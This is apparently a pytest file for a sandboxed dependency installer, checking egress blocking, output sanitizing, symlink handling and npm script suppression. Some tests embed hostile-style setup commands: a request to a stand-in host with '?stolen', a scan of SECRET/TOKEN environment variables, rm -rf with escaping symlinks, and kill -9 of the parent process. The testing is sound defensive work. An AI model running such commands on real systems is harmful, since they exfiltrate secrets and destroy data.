"""Real installations in real sandboxes, from an index on this host's loopback."""

from __future__ import annotations

import json
import platform
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest

from tests.workers.environment.conftest import Index
from workers.egress import RefusedHost, Sources
from workers.egress.proxy import NOT_LISTED
from workers.environment import Installed, Recipe
from workers.environment.cache import Cache, Told
from workers.environment.install import Installer, environment
from workers.environment.recipe import recipe
from workers.sandbox import Limits
from workers.sandbox.bubblewrap import Bubblewrap

PYPROJECT = """
[project]
name = "quay"
version = "4.5"
dependencies = ["harbour>=1"]
[project.scripts]
quay = "quay:main"
[project.entry-points.ships]
one = "quay:main"
"""
FILES = {
    "pyproject.toml": PYPROJECT,
    "src/quay/__init__.py": "import harbour\n\ndef main():\n    print('depth', harbour.DEPTH)\n",
    "test_quay.py": "import harbour, quay\n\ndef test_depth():\n    assert harbour.DEPTH == 12\n",
}


def of(files: dict[str, str]) -> Recipe | None:
    return recipe(lambda path: files[path].encode() if path in files else None, list(files))


def writer(files: dict[str, str]) -> Callable[[Path], None]:
    def checkout(folder: Path) -> None:
        for path, text in files.items():
            place = folder / path
            place.parent.mkdir(parents=True, exist_ok=True)
            place.write_text(text)

    return checkout


@contextmanager
def installing(installer: Installer, files: dict[str, str], **more: Any) -> Iterator[Installed]:
    with installer.installed(of(files), "acme/quay", writer(files), **more) as found:
        yield found


def run(box: Bubblewrap, folder: Path, found: Installed, files: dict[str, str], command: str) -> str:
    """What a command prints in a sandbox with these files and what was installed."""
    folder.mkdir(exist_ok=True)
    writer(files)(folder)
    session = box.open(folder, found.folder)
    try:
        return session.run(command, limits=Limits(wall_seconds=60)).output
    finally:
        session.close()


def test_a_suite_runs_with_what_was_installed_and_the_second_time_nothing_is_asked_for(
    installer: Installer, box: Bubblewrap, index: Index, tmp_path: Path
) -> None:
    said: list[str] = []
    with installing(installer, FILES, say=said.append) as first:
        assert (first.reasons, first.refused, first.fresh) == ((), (), True)
        output = run(
            box,
            tmp_path / "w",
            first,
            FILES,
            "python -m pytest -q -p no:cacheprovider; pytest --version; quay; "
            'python -c \'import importlib.metadata as m; print(m.version("quay"), m.entry_points(group="ships"))\'; '
            "touch /deps/x; ls -d /run; ls -A /deps",
        )
    assert "1 passed" in output
    assert "depth 12" in output
    assert "4.5" in output
    assert "quay:main" in output
    assert "touch: cannot touch '/deps/x': Read-only file system" in output
    assert "ls: cannot access '/run'" in output
    assert output.rstrip().splitlines()[-1] == "venv"
    assert said == ["Installing what the repository needs"]
    asked = len(index.asked)
    assert asked > 0
    with installing(installer, {**FILES, "test_quay.py": "changed"}, say=said.append) as second:
        assert (second.folder, second.fresh, second.reasons) == (first.folder, False, ())
    assert len(index.asked) == asked
    assert len(said) == 1


def test_a_package_that_is_not_there_is_told_and_not_asked_for_again(installer: Installer, index: Index) -> None:
    files = {"requirements.txt": "harbour\nlighthouse\n"}
    with installing(installer, files) as found:
        assert found.folder is None
        assert "requirements.txt" in found.reasons[0] or "lighthouse" in found.reasons[0]
        assert found.reasons[0].startswith("What it needs could not be installed: ")
    asked = len(index.asked)
    with installing(installer, files) as again:
        assert again == found
    assert len(index.asked) == asked


def test_what_can_be_installed_is_kept_if_a_part_cannot(installer: Installer, box: Bubblewrap, tmp_path: Path) -> None:
    files = {"requirements.txt": "harbour\n", "requirements-test.txt": "lighthouse\n"}
    with installing(installer, files) as found:
        assert "depth" in run(box, tmp_path / "w", found, FILES, "PYTHONPATH=src python -c 'import quay; quay.main()'")
        assert len(found.reasons) == 1
        assert found.reasons[0].startswith("Not everything it needs was installed: requirements-test.txt: ")
        assert "lighthouse" in found.reasons[0]


def test_the_repositorys_own_command_has_the_proxy_and_no_other_way_out(
    installer: Installer, box: Bubblewrap, index: Index, tmp_path: Path
) -> None:
    host, port = index.host.split(":")
    command = f"""
pip install --quiet harbour
python - <<'END'
import os, socket, urllib.request
def tried(what):
    try:
        what()
        return "through"
    except Exception as error:
        return type(error).__name__
with open("/deps/tried", "w") as file:
    print(tried(lambda: urllib.request.urlopen("https://elsewhere.example/?stolen")), file=file)
    print(tried(lambda: socket.create_connection(("{host}", {port}), 2)), file=file)
    print(tried(lambda: socket.create_connection(("1.1.1.1", 443), 2)), file=file)
    print(tried(lambda: socket.getaddrinfo("elsewhere.example", 443)), file=file)
    print(tried(lambda: urllib.request.urlopen("http://{index.host}/simple/harbour/")), file=file)
    print(sorted(name for name in os.environ if "SECRET" in name or "TOKEN" in name), file=file)
END
"""
    files = {**FILES, ".shipmate.toml": f"[setup]\ncommand = '''{command}'''\n"}
    with installing(installer, files) as found:
        assert found.refused == (RefusedHost("elsewhere.example", NOT_LISTED, 1),)
        assert found.reasons == (f"Refused during the installation: elsewhere.example {NOT_LISTED}.",)
        output = run(
            box, tmp_path / "w", found, files, "cat /deps/tried; python -c 'import harbour; print(harbour.DEPTH)'"
        )
    assert output.splitlines() == ["URLError", "ConnectionRefusedError", "OSError", "gaierror", "through", "[]", "12"]


def test_a_command_that_fails_is_told_with_its_last_words(installer: Installer) -> None:
    with installing(installer, {".shipmate.toml": '[setup]\ncommand = "echo the mast broke >&2; exit 3"\n'}) as found:
        assert found.folder is None
        assert found.reasons == ("What it needs could not be installed: [setup] command: the mast broke.",)


def test_what_the_inside_claims_is_cut_and_made_plain(installer: Installer) -> None:
    claim = '{"failed": [["a\\u202eb' + "x" * 5000 + '", "ERROR: \\u001b[31mred ' + "y" * 5000 + '"]]}'
    lines = [f"printf '%s\\n' '{claim}' >/proc/$PPID/fd/1", "kill -9 $PPID"]
    with installing(installer, {".shipmate.toml": f"[setup]\ncommand = '''{'; '.join(lines)}'''\n"}) as found:
        assert found.folder is None
        assert len(found.reasons[0]) < 400
        assert found.reasons[0].isprintable()


def test_an_installation_can_be_stopped(installer: Installer) -> None:
    stop = threading.Event()
    timer = threading.Timer(1.0, stop.set)
    timer.start()
    with installing(installer, {".shipmate.toml": '[setup]\ncommand = "sleep 60"\n'}, stopped=stop.is_set) as found:
        assert found.folder is None
        assert found.seconds < 20
    with installing(installer, {".shipmate.toml": '[setup]\ncommand = "sleep 60"\n'}, stopped=lambda: True) as again:
        assert again.reasons == found.reasons == ("What it needs could not be installed: it was stopped.",)


def test_an_installation_that_is_refused_over_and_over_ends_by_itself(installer: Installer) -> None:
    command = """
python - <<'END'
import urllib.request
while True:
    try:
        urllib.request.urlopen("https://elsewhere.example/package")
    except OSError:
        pass
END
"""
    with installing(installer, {".shipmate.toml": f"[setup]\ncommand = '''{command}'''\n"}) as found:
        assert found.folder is None
        assert found.seconds < 30
        assert found.reasons[0] == f"What it needs could not be installed: elsewhere.example {NOT_LISTED}."
        assert found.refused[0].count >= 20


def test_hostile_leftovers_are_neither_followed_nor_kept(installer: Installer, tmp_path: Path) -> None:
    target = tmp_path / "precious"
    target.mkdir()
    (target / "file").write_text("kept")
    command = (
        f"rm -rf /deps/.work/* ; ln -s {target} /deps/venv2; mkdir -p /deps/node_modules; ln -s {target} /deps/x; "
        f"rm -rf /deps/.tmp/sub; ln -s {target} /deps/.tmp/sub; mkdir /deps/locked; chmod 0 /deps/locked"
    )
    with installing(installer, {".shipmate.toml": f'[setup]\ncommand = "{command}"\n'}) as found:
        assert found.folder is None or not (found.folder / ".work").exists()
    assert (target / "file").read_text() == "kept"


def test_without_hosts_nothing_is_installed_and_the_reason_says_where_to_change_that(
    tmp_path: Path, box: Bubblewrap
) -> None:
    installer = Installer(tmp_path / "deps", box, Sources, dict)
    with installing(installer, FILES) as found:
        assert found.folder is None
        assert "[setup]" in found.reasons[0]


def test_a_project_is_made_known_without_any_host(tmp_path: Path, box: Bubblewrap) -> None:
    files = {"pyproject.toml": '[project]\nname = "quay"\nversion = "4.5"\n', "quay.py": ""}
    with installing(Installer(tmp_path / "deps", box, Sources, dict), files) as found:
        assert found.reasons == ()
        command = "python -c 'import importlib.metadata as m; print(m.version(\"quay\"))'; python -m pytest --version"
        assert run(box, tmp_path / "w", found, files, command).split()[:2] == ["4.5", "pytest"]


def test_a_version_that_only_a_build_writes_can_be_imported_and_a_file_goes_before(
    tmp_path: Path, box: Bubblewrap
) -> None:
    scm = "[tool.hatch.build.hooks.vcs]\nversion-file = 'src/quay/_version.py'\n"
    files = {
        "pyproject.toml": f'[project]\nname = "quay"\nversion = "4.5"\n{scm}',
        "src/quay/__init__.py": "from quay._version import __version__, version_tuple\n",
    }
    command = "python -c 'import quay; print(quay.__version__, quay.version_tuple)'; ls src/quay"
    with installing(Installer(tmp_path / "deps", box, Sources, dict), files) as found:
        said = run(box, tmp_path / "w", found, files, command)
        assert said.splitlines()[0] == "4.5 (4, 5)"
        assert "_version.py" not in said
        own = {**files, "src/quay/_version.py": "__version__, version_tuple = 'own', ()\n"}
        assert run(box, tmp_path / "v", found, own, command).splitlines()[0] == "own ()"


def test_nothing_needed_is_nothing_asked(tmp_path: Path, box: Bubblewrap) -> None:
    def unasked() -> Sources:
        raise AssertionError

    with Installer(tmp_path / "deps", box, unasked, dict).installed(None, "acme/app", writer({})) as found:
        assert found == Installed()


def test_a_missing_sandbox_is_a_reason_and_no_failure(
    tmp_path: Path, index: Index, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("workers.sandbox.bubblewrap.program", lambda: None)
    sources = Sources(local_hosts=(index.host,), index=index.url)
    installer = Installer(
        tmp_path / "deps", Bubblewrap(tmp_path), lambda: sources, lambda: {"python": platform.python_version()}
    )
    with installing(installer, FILES) as found:
        assert found.folder is None
        assert "bubblewrap is not installed" in found.reasons[0]


def test_node_packages_are_found_from_modules_and_search_path(box: Bubblewrap, cache: Cache, tmp_path: Path) -> None:
    def make(tree: Path) -> Told:
        writer({"node_modules/buoy/index.js": "module.exports = 7\n", "node_modules/buoy/package.json": "{}"})(tree)
        return Told(reasons=[], refused=[])

    files = {"a.mjs": "import buoy from 'buoy'; console.log(buoy)\n", "b.cjs": "console.log(require('buoy') + 1)\n"}
    with cache.using("a", make, lambda: False) as entry:
        output = run(box, tmp_path / "w", Installed(entry.tree), files, "node a.mjs; node b.cjs; ls -A")
    assert output.split() == ["7", "8", "a.mjs", "b.cjs"]


def test_npm_runs_no_script_of_what_it_installs(installer: Installer, box: Bubblewrap, tmp_path: Path) -> None:
    touch = {"postinstall": "touch /deps/ran", "prepare": "touch /deps/ran", "preinstall": "touch /deps/ran"}
    files = {
        "package.json": json.dumps({"name": "quay", "scripts": touch, "dependencies": {"buoy": "file:./parts/buoy"}}),
        "parts/buoy/package.json": json.dumps({"name": "buoy", "version": "1.0.0", "scripts": touch}),
        "parts/buoy/index.js": "module.exports = 7\n",
    }
    with installing(installer, files) as found:
        assert found.reasons == ()
        command = "node -p 'require(\"buoy\")'; readlink /deps/node_modules/buoy; ls -A /deps; ls -A"
        output = run(box, tmp_path / "w", found, files, command)
    assert output.split() == ["7", "/workspace/parts/buoy", "node_modules", "package.json", "parts"]


@pytest.mark.parametrize(("builds", "only"), [(False, ":all:"), (True, None)])
def test_wheels_alone_unless_the_operator_allows_builds(builds: bool, only: str | None) -> None:
    told = environment(Sources(index="https://packages.example/simple", source_builds=builds))
    assert told.get("PIP_ONLY_BINARY") == only
    assert told["PIP_INDEX_URL"] == "https://packages.example/simple"
    assert told["npm_config_ignore_scripts"] == "true"
